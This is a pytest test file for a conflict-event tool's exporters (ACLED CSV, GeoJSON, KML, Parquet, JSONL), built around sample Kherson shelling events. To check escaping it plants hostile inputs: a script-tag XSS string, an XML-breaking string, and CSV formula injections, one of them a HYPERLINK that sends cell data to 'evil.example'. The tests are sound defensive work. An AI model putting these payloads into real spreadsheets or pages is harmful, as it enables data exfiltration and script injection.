"""Exports (sitrep.export and `sitrep export`): each format is parsed back with its own reader and
checked column by column, with hostile text in the claims and outlet names."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import os
import stat
import xml.etree.ElementTree as ET

import pyarrow.parquet as pq
import pytest
from typer.testing import CliRunner

from sitrep import export
from sitrep.cli import app
from sitrep.models import ClaimRef, EventDate, EventPlace, EventView, Source, SourceMix
from sitrep.store import Store
from sitrep.synthetic import fill_events

KML = "{http://www.opengis.net/kml/2.2}"
HOSTILE_OUTLET = '<script>alert("x")</script> & Co, "Ltd"'
HOSTILE_TEXT = 'Shelling hit Kherson; "10 killed", officials said.\n]]></Placemark><x a="1"> &amp;'


def claim(text: str, outlet: str | None, source: Source, url: str = "https://example.org/a?b=1&c=2") -> ClaimRef:
    return ClaimRef(claim_id=f"abc:0-{len(text)}", document_id="abc", start=0, end=len(text), text=text,
                    source=source, outlet=outlet, url=url, published=dt.date(2023, 11, 6))


def kherson_shelling() -> EventView:
    governor = Source(name="regional governor", kind="official", side="UA")
    channel = Source(name="Rybar", kind="milblogger", side="RU", channel="telegram")
    return EventView(
        id="ev-0123456789abcdef", family="Shelling", event_type="Explosions/Remote violence",
        sub_event_type="Shelling/artillery/missile attack",
        place=EventPlace(name="Kherson", geonameid=706448, admin1="Kherson", country="UA", lat=46.6354,
                         lon=32.6169, precision=1),
        date=EventDate(start=dt.date(2023, 11, 6), end=dt.date(2023, 11, 6), precision="day"),
        first_reported=dt.date(2023, 11, 6), last_reported=dt.date(2023, 11, 7), claim_count=2,
        independent_sources=2, source_mix=SourceMix(UA=1, RU=1), actor_sides=["RU"], attackers=["RU"],
        fatalities=[10, 12], contradicted=True,
        claims=[claim(HOSTILE_TEXT, HOSTILE_OUTLET, governor), claim("Strikes on Kherson.", None, channel)])


def undated_somewhere() -> EventView:
    return EventView(id="ev-fedcba9876543210", family="Armed clash", event_type="Battles",
                     sub_event_type="Armed clash", place=EventPlace(), claim_count=1, independent_sources=1,
                     source_mix=SourceMix(unknown=1))


def written(format: str, events: list[EventView]) -> tuple[int, bytes]:
    out = io.BytesIO()
    count = export.write(format, events, out)
    return count, out.getvalue()


def test_acled_csv_has_acleds_columns_and_codes():
    count, data = written("acled-csv", [kherson_shelling(), undated_somewhere()])
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))
    assert count == 2 and len(rows) == 2
    assert tuple(rows[0]) == export.ACLED_COLUMNS
    row = rows[0]
    assert row["event_id_cnty"].startswith("UKR") and row["event_id_cnty"][3:].isdigit()
    assert (row["event_date"], row["year"], row["time_precision"]) == ("2023-11-06", "2023", "1")
    assert (row["disorder_type"], row["event_type"]) == ("Political violence", "Explosions/Remote violence")
    assert row["actor1"] == "Military Forces of Russia (2000-)" and row["inter1"] == "8"
    assert row["actor2"] == "" and row["interaction"] == "80"
    assert (row["iso"], row["country"], row["region"], row["admin1"]) == ("804", "Ukraine", "Europe", "Kherson")
    assert (row["location"], row["latitude"], row["longitude"], row["geo_precision"]) == (
        "Kherson", "46.6354", "32.6169", "1")
    assert row["source"] == f"{HOSTILE_OUTLET}; Rybar"
    assert row["source_scale"] == "National-New media"
    assert row["fatalities"] == "10"  # the lowest toll, as ACLED counts
    assert row["notes"].startswith("On 2023-11-06, shelling/artillery/missile attack at Kherson, Kherson")
    assert "\n" not in row["notes"] and "contested" in row["notes"]
    assert "ev-0123456789abcdef" in row["tags"]
    assert row["timestamp"] == str(int(dt.datetime(2023, 11, 7, tzinfo=dt.UTC).timestamp()))
    empty = rows[1]
    assert empty["event_id_cnty"].startswith("XXX") and empty["event_date"] == "" and empty["latitude"] == ""


def test_undated_event_takes_the_first_reports_day_at_month_precision():
    event = kherson_shelling().model_copy(update={"date": None, "first_reported": dt.date(2023, 11, 4)})
    row = export.acled_row(event)
    assert (row["event_date"], row["year"], row["time_precision"]) == ("2023-11-04", 2023, 3)
    assert "undated: first report's day" in row["tags"]


def test_event_no_report_dates_takes_the_day_its_first_report_was_stored():
    row = export.acled_row(undated_somewhere(), stored=dt.date(2026, 1, 5))
    assert (row["event_date"], row["year"], row["time_precision"]) == ("2026-01-05", 2026, 3)
    assert "undated: day the first report was stored" in row["tags"]


@pytest.mark.parametrize(("event_type", "attackers", "country", "actor1", "inter1", "interaction"), [
    ("Battles", [], "UA", "Unidentified Armed Group (Ukraine)", 3, 38),
    ("Explosions/Remote violence", ["third-party"], "RU", "Unidentified Armed Group (Russia)", 3, 13),
    ("Battles", [], None, "Unidentified Armed Group (unknown country)", 3, 38),
    ("Riots", [], "UA", "Rioters (Ukraine)", 5, 58),
    ("Battles", ["UA"], "UA", "Military Forces of Ukraine (2019-)", 1, 18),
])
def test_actor1_is_never_empty(event_type, attackers, country, actor1, inter1, interaction):
    """Without a known attacker actor1 is the generic actor ACLED codes for an unknown perpetrator;
    actor2 (the named Russian forces: external in Ukraine, state forces in Russia) is kept."""
    event = kherson_shelling()
    event = event.model_copy(update={"event_type": event_type, "attackers": attackers, "actor_sides": ["RU"],
                                     "place": event.place.model_copy(update={"country": country})})
    row = export.acled_row(event)
    assert (row["actor1"], row["inter1"], row["interaction"]) == (actor1, inter1, interaction)


def test_acled_csv_keeps_formulas_out_of_spreadsheets():
    """A source named like a formula stays text when the export is opened in a spreadsheet; the
    numbers (negative coordinates among them) stay numbers."""
    event = kherson_shelling()
    formula = Source(name='=HYPERLINK("http://evil.example/?"&A1,"open")', kind="milblogger", side="RU")
    event.claims = [claim("-1 tank destroyed near Kherson.", '=HYPERLINK("http://evil.example","open")', formula)]
    event.place.lon = -32.6169
    _, data = written("acled-csv", [event])
    [row] = csv.DictReader(io.StringIO(data.decode("utf-8")))
    cells = [value for value in row.values() if value]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "\t"))]
    assert row["longitude"] == "-32.6169"
    assert "'=HYPERLINK" in row["source"]


@pytest.mark.parametrize(("value", "cell"), [("=1+1", "'=1+1"), ("+7 km", "'+7 km"), ("-3", "-3"), ("-3.5e2", "-3.5e2"),
                                             ("- a list item", "'- a list item"), ("@user", "'@user"),
                                             ("\tx", "'\tx"), ("Kherson", "Kherson"), (-32.5, -32.5), ("", "")])
def test_csv_cells_are_neutralized(value, cell):
    from sitrep import csvsafe

    assert csvsafe.neutralize(value) == cell


def test_acled_event_ids_are_stable_and_distinct():
    first = export.acled_event_id("ev-0123456789abcdef", "UKR")
    assert first == export.acled_event_id("ev-0123456789abcdef", "UKR")
    assert first != export.acled_event_id("ev-0123456789abcdee", "UKR")


def test_violence_against_civilians_names_civilians_as_actor2():
    event = kherson_shelling().model_copy(update={"event_type": "Violence against civilians",
                                                  "sub_event_type": "Attack"})
    row = export.acled_row(event)
    assert (row["actor2"], row["inter2"], row["interaction"]) == ("Civilians (Ukraine)", 7, 78)
    assert row["civilian_targeting"] == "Civilian targeting"


def test_geojson_is_a_feature_collection_in_lon_lat_order():
    count, data = written("geojson", [kherson_shelling(), undated_somewhere()])
    collection = json.loads(data)
    assert count == 2 and collection["type"] == "FeatureCollection"
    first, second = collection["features"]
    assert first["geometry"] == {"type": "Point", "coordinates": [32.6169, 46.6354]}
    assert second["geometry"] is None
    properties = first["properties"]
    assert all(value is None or isinstance(value, (str, int, float)) for value in properties.values())
    assert properties["quote"] == HOSTILE_TEXT and properties["contradicted"] == 1
    assert properties["date_start"] == "2023-11-06" and properties["fatalities"] == 10


def test_kml_parses_with_placemarks_timespans_and_escaped_text():
    count, data = written("kml", [kherson_shelling(), undated_somewhere()])
    root = ET.fromstring(data)
    assert count == 2 and root.tag == f"{KML}kml"
    first, second = root.iter(f"{KML}Placemark")
    assert first.findtext(f"{KML}TimeSpan/{KML}begin") == "2023-11-06"
    assert first.findtext(f"{KML}Point/{KML}coordinates") == "32.6169,46.6354"
    data_values = {item.get("name"): item.findtext(f"{KML}value") for item in first.iter(f"{KML}Data")}
    assert data_values["quote"] == HOSTILE_TEXT and data_values["source"].startswith(HOSTILE_OUTLET)
    assert second.find(f"{KML}Point") is None and second.find(f"{KML}TimeSpan") is None
    assert b"<script>" not in data


def test_parquet_has_the_explicit_schema():
    count, data = written("parquet", [kherson_shelling(), undated_somewhere()])
    table = pq.read_table(io.BytesIO(data))
    assert count == 2 and table.schema.equals(export.parquet_schema())
    rows = table.to_pylist()
    assert rows[0]["date_start"] == dt.date(2023, 11, 6) and rows[0]["latitude"] == 46.6354
    assert rows[0]["contradicted"] is True and rows[1]["latitude"] is None


def test_parquet_with_no_events_is_still_a_file():
    count, data = written("parquet", [])
    assert count == 0 and pq.read_table(io.BytesIO(data)).num_rows == 0


def test_jsonl_is_one_event_view_per_line():
    count, data = written("jsonl", [kherson_shelling(), undated_somewhere()])
    lines = data.decode().splitlines()
    assert count == 2 and [EventView.model_validate_json(line).id for line in lines] == [
        "ev-0123456789abcdef", "ev-fedcba9876543210"]
    assert '"third-party"' in lines[0]  # by alias, as the API writes it


def test_unknown_format_is_refused():
    with pytest.raises(ValueError, match="acled-csv"):
        export.write("xlsx", [], io.BytesIO())


# The command


@pytest.fixture()
def database(tmp_path):
    path = tmp_path / "events.db"
    with Store.open(f"sqlite:///{path}") as store:
        fill_events(store, 40, seed=3, bbox=(30.0, 46.0, 38.0, 51.0), since=dt.date(2023, 1, 1), days=30)
    return path


def test_export_command_writes_a_file_by_temporary_name(database, tmp_path):
    target = tmp_path / "out" / "events.csv"
    target.parent.mkdir()
    result = CliRunner().invoke(app, ["export", "--db", str(database), "--format", "acled-csv",
                                      "--out", str(target), "--bbox", "30,46,34,51"])
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(target.open(encoding="utf-8", newline="")))
    assert rows and all(30 <= float(row["longitude"]) <= 34 for row in rows)
    assert [path.name for path in target.parent.iterdir()] == ["events.csv"]


@pytest.mark.parametrize(("umask", "mode"), [(0o022, 0o644), (0o002, 0o664), (0o077, 0o600)])
def test_export_file_is_created_with_the_users_umask(database, tmp_path, umask, mode):
    target = tmp_path / "events.geojson"
    previous = os.umask(umask)
    try:
        result = CliRunner().invoke(app, ["export", "--db", str(database), "--format", "geojson", "--out", str(target)])
    finally:
        os.umask(previous)
    assert result.exit_code == 0, result.output
    assert stat.S_IMODE(target.stat().st_mode) == mode


def test_export_over_an_existing_file_keeps_its_mode(database, tmp_path):
    target = tmp_path / "events.csv"
    target.write_text("old export")
    target.chmod(0o640)
    result = CliRunner().invoke(app, ["export", "--db", str(database), "--format", "acled-csv", "--out", str(target)])
    assert result.exit_code == 0, result.output
    assert stat.S_IMODE(target.stat().st_mode) == 0o640 and target.read_text().startswith("event_id_cnty")


@pytest.fixture()
def undated_database(tmp_path):
    """One shelling whose report has no publication day and whose claim names no date and no attacker."""
    from sitrep import corroborate
    from sitrep.ingest.base import document_id
    from sitrep.models import Claim, Document, Event, Extraction, Place

    text = "Shelling hit Kherson overnight, the regional governor said."
    document = Document(id=document_id(text), source="kherson.txt", text=text)
    at = text.index("Kherson")
    kherson = Place(mention="Kherson", start=at, end=at + 7, geonameid=706448, name="Kherson", feature="PPLA",
                    admin1="Kherson", country="UA", lat=46.6354, lon=32.6169, precision=1)
    event = Event(event_type="Explosions/Remote violence", sub_event_type="Shelling/artillery/missile attack", place=0)
    claim = Claim(id=f"{document.id}:0-{len(text)}", start=0, end=len(text), text=text, confidence=0.7,
                  source=Source(name="regional governor", kind="official", side="UA"), event=event)
    path = tmp_path / "undated.db"
    with Store.open(f"sqlite:///{path}") as store:
        store.add(Extraction(document=document, places=[kherson], claims=[claim]))
        corroborate.update(store)
        with store.reading() as connection:
            stored = connection.exec_driver_sql("SELECT ingested_at FROM documents").scalar()
    return path, str(stored)[:10]


def test_acled_csv_of_a_store_has_a_date_and_an_actor1_on_every_row(undated_database, tmp_path):
    """What docs/api.md promises, through the command and the API: the undated event gets the day its
    report was stored at month precision, and the unknown attacker ACLED's generic actor."""
    from fastapi.testclient import TestClient

    from sitrep.api import create_app

    path, stored = undated_database
    target = tmp_path / "events.csv"
    result = CliRunner().invoke(app, ["export", "--db", str(path), "--format", "acled-csv", "--out", str(target)])
    assert result.exit_code == 0, result.output
    with Store.open(f"sqlite:///{path}") as store:
        served = TestClient(create_app(store=store)).get("/api/export", params={"format": "acled-csv"}).text
    for text in (target.read_text(encoding="utf-8"), served):
        [row] = csv.DictReader(io.StringIO(text))
        assert (row["event_date"], row["year"], row["time_precision"]) == (stored, stored[:4], "3")
        assert (row["actor1"], row["inter1"]) == ("Unidentified Armed Group (Ukraine)", "3")


def test_export_command_streams_to_stdout(database):
    result = CliRunner().invoke(app, ["export", "--db", str(database), "--format", "jsonl", "--limit", "5"])
    assert result.exit_code == 0 and len(result.stdout.splitlines()) == 5


@pytest.mark.parametrize(("arguments", "words"), [(["--format", "xlsx"], "acled-csv"),
                                                  (["--format", "kml", "--bbox", "1,2,3"], "bbox"),
                                                  (["--format", "kml", "--since", "soon"], "--since")])
def test_export_command_refuses_bad_options_in_one_line(database, arguments, words):
    result = CliRunner().invoke(app, ["export", "--db", str(database), *arguments])
    assert result.exit_code == 2 and words in result.output
    assert "Traceback" not in result.output
